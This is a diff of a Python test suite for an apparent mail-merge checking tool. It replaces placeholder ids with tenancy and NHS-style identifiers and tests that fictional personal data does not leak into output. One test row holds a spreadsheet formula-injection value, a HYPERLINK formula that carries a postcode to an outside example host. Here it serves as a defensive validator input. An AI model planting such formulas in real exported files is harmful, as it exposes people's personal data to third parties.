@@ -24,34 +24,37 @@ PLANTED = [
     "zephyrine.quillfeather@", "zq.old@", "b.throckmorton@", "quillfeather@@",
     "900771", "900772", "900773", "900774", "7700900771",
     "1977-03-09", "09/03/1977", "CT-77123456", "CT-77123457", "£1,234.56",
+    # Recipient and subject ids: an internal tenancy key and an NHS number.
+    "TNC-718203", "TNC-718204", "TNC-718206", "485 777 3007", "4857773007",
+    "CT-77123458", "CT-77123459", "CT-77123460", "CT-77123461",
 ]
 
 PEOPLE = """person_id,title,given_name,family_name,date_of_birth,status,flags
-P-1,Mrs,Zephyrine,Quillfeather,1977-03-09,active,
-P-2,Mr,Barnaby,Throckmorton,1981-06-14,active,
-P-3,Mr,Cuthbert,Vandersloot,1979-12-01,active,
-P-4,Ms,Ottoline,Featherstonehaugh,1990-02-20,active,no_voicemail;post_only
+TNC-718203,Mrs,Zephyrine,Quillfeather,1977-03-09,active,
+TNC-718204,Mr,Barnaby,Throckmorton,1981-06-14,active,
+485 777 3007,Mr,Cuthbert,Vandersloot,1979-12-01,active,
+TNC-718206,Ms,Ottoline,Featherstonehaugh,1990-02-20,active,no_voicemail;post_only
 """
 ADDRESSES = """person_id,line_1,line_2,line_3,line_4,line_5,line_6,postcode,status,\
 valid_from,valid_to,verified_on
-P-1,17 Wispering Gardens,Lowmarsh,,,,,PE99 7ZZ,current,2025-01-10,,2026-10-01
-P-1,4 Orchard Mews,Lowmarsh,,,,,PE98 2QX,previous,2015-01-01,2025-01-09,2024-06-01
-P-2,22 Larkspur Close,Lowmarsh,,,,,PE97 3AB,current,2026-03-01,,2026-09-01
-P-3,9 Brindle Row,Lowmarsh,,,,,PE96 4CD,current,2010-01-01,,2026-09-01
-P-4,3 Brindle Row,Lowmarsh,,,,,PE96 4CD,current,2010-01-01,,2026-09-01
+TNC-718203,17 Wispering Gardens,Lowmarsh,,,,,PE99 7ZZ,current,2025-01-10,,2026-10-01
+TNC-718203,4 Orchard Mews,Lowmarsh,,,,,PE98 2QX,previous,2015-01-01,2025-01-09,2024-06-01
+TNC-718204,22 Larkspur Close,Lowmarsh,,,,,PE97 3AB,current,2026-03-01,,2026-09-01
+485 777 3007,9 Brindle Row,Lowmarsh,,,,,PE96 4CD,current,2010-01-01,,2026-09-01
+TNC-718206,3 Brindle Row,Lowmarsh,,,,,PE96 4CD,current,2010-01-01,,2026-09-01
 """
 CONTACTS = """person_id,kind,value,status,verified_on
-P-1,email,zephyrine.quillfeather@leaktest.example,current,2026-10-01
-P-1,email,zq.old@leaktest.example,previous,2024-01-01
-P-1,phone,07700 900771,current,2026-10-01
-P-2,phone,07700 900772,current,2026-10-01
-P-2,email,b.throckmorton@leaktest.example,current,2026-10-01
-P-3,phone,07700 900773,current,2026-10-01
-P-4,phone,07700 900774,current,2026-10-01
+TNC-718203,email,zephyrine.quillfeather@leaktest.example,current,2026-10-01
+TNC-718203,email,zq.old@leaktest.example,previous,2024-01-01
+TNC-718203,phone,07700 900771,current,2026-10-01
+TNC-718204,phone,07700 900772,current,2026-10-01
+TNC-718204,email,b.throckmorton@leaktest.example,current,2026-10-01
+485 777 3007,phone,07700 900773,current,2026-10-01
+TNC-718206,phone,07700 900774,current,2026-10-01
 """
 RESTRICTIONS = """person_id,kind,other_person_id,note
-P-2,confidential_address,,fled
-P-2,do_not_disclose_to,P-3,ex-partner
+TNC-718204,confidential_address,,fled
+TNC-718204,do_not_disclose_to,485 777 3007,ex-partner
 """
 REPRESENTATIVES = "person_id,representative_id,scope,valid_to\n"
 
@@ -60,22 +63,28 @@ HEADER = ("recipient_id,subject_id,title,first_name,last_name,address_line_1,add
           "subject_address,note")
 ROWS = [
     # stale-address: a letter to the previous address
-    "P-1,P-1,Mrs,Zephyrine,Quillfeather,Mrs Z Quillfeather,4 Orchard Mews,Lowmarsh,PE98 2QX,,,"
+    "TNC-718203,TNC-718203,Mrs,Zephyrine,Quillfeather,Mrs Z Quillfeather,"
+    "4 Orchard Mews,Lowmarsh,PE98 2QX,,,"
     "letter,letter,CT-77123456,\"£1,234.56\",,",
     # stale-contact: an email to the previous email address
-    "P-1,P-1,Mrs,Zephyrine,Quillfeather,,,,,zq.old@leaktest.example,,email,email,CT-77123457,"
+    "TNC-718203,TNC-718203,Mrs,Zephyrine,Quillfeather,,,,,zq.old@leaktest.example,,"
+    "email,email,CT-77123457,"
     "\"£1,234.56\",,",
     # protected-address: the victim's address in a letter to her ex-partner
-    "P-3,P-2,Mr,Cuthbert,Vandersloot,Mr C Vandersloot,9 Brindle Row,Lowmarsh,PE96 4CD,,,letter,"
+    "485 777 3007,TNC-718204,Mr,Cuthbert,Vandersloot,Mr C Vandersloot,9 Brindle Row,"
+    "Lowmarsh,PE96 4CD,,,letter,"
     "letter,CT-77123458,£10.00,\"22 Larkspur Close, Lowmarsh, PE97 3AB\",",
     # voicemail-content and handling-flags: surname, amount, arrears, no_voicemail, post_only
-    "P-4,P-4,Ms,Ottoline,Featherstonehaugh,,,,,,07700 900774,voicemail,voicemail,CT-77123459,"
+    "TNC-718206,TNC-718206,Ms,Ottoline,Featherstonehaugh,,,,,,07700 900774,voicemail,"
+    "voicemail,CT-77123459,"
     "\"£1,234.56\",,",
     # recipient-mismatch: a name the register does not hold
-    "P-1,P-1,Mrs,Zephyrine,Grimblethorpe,Mrs Z Grimblethorpe,17 Wispering Gardens,Lowmarsh,"
+    "TNC-718203,TNC-718203,Mrs,Zephyrine,Grimblethorpe,Mrs Z Grimblethorpe,"
+    "17 Wispering Gardens,Lowmarsh,"
     "PE99 7ZZ,,,letter,letter,CT-77123460,£5.00,,",
     # contact-validity: an invalid email, a formula
-    "P-1,P-1,Mrs,Zephyrine,Quillfeather,,,,,quillfeather@@leaktest,,email,email,CT-77123461,"
+    "TNC-718203,TNC-718203,Mrs,Zephyrine,Quillfeather,,,,,quillfeather@@leaktest,,"
+    "email,email,CT-77123461,"
     "£5.00,,\"=HYPERLINK(\"\"http://x.example/?PE99 7ZZ\"\")\"",
 ]
 TEMPLATES = {
@@ -159,7 +168,7 @@ def test_baseline_holds_hashes_only(mailing: Path) -> None:
     result = run("check", "batch.csv", "--today", TODAY, "--write-baseline", "baseline.json")
     assert result.exit_code == 0
     text = (mailing / "baseline.json").read_text(encoding="utf-8")
-    assert leaks(text) == [] and "P-1" not in text
+    assert leaks(text) == [] and "TNC-718203" not in text
 
 
 def test_lint_rules_explain_and_init_print_no_planted_values(mailing: Path) -> None:
@@ -175,9 +184,10 @@ def test_lint_rules_explain_and_init_print_no_planted_values(mailing: Path) -> N
 def test_register_commands_print_no_planted_values(mailing: Path) -> None:
     # Two current addresses and a shared contact give register check something to say.
     with (mailing / "register" / "addresses.csv").open("a", encoding="utf-8") as out:
-        out.write("P-1,5 Wispering Gardens,Lowmarsh,,,,,PE99 7ZZ,current,2026-01-01,,2026-10-01\n")
+        out.write("TNC-718203,5 Wispering Gardens,Lowmarsh,,,,,PE99 7ZZ,current,2026-01-01,,"
+                  "2026-10-01\n")
     with (mailing / "register" / "contacts.csv").open("a", encoding="utf-8") as out:
-        out.write("P-3,phone,07700 900772,current,2026-10-01\n")
+        out.write("485 777 3007,phone,07700 900772,current,2026-10-01\n")
     check = run("register", "check", "register", "--today", TODAY)
     assert check.exit_code == 1 and "multiple-current-addresses" in check.output
     build = run("register", "build", "register", "-o", "register.sqlite")
